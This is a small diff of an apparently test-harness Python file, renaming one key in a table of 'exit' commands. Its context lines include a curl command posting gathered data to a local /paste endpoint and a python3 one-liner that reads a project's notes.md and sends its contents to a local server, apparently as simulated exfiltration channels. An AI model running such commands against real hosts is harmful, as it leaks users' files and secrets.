@@ -192,7 +192,7 @@ EXITS: dict[str, Callable[[Machine], str]] = {
     "command with the network": lambda m: (
         READING + _run(f"curl -s -m 2 --data '{{found}}' http://127.0.0.1:{m.web.port}/paste")
     ),
-    "command with a program of its own": lambda m: _run(
+    "command with a separate program": lambda m: _run(
         'python3 -c "import urllib.request as u; '
         f"u.urlopen('http://127.0.0.1:{m.web.port}/x?' + open('{m.project}/notes.md').read().strip(), timeout=2)\""
     ),
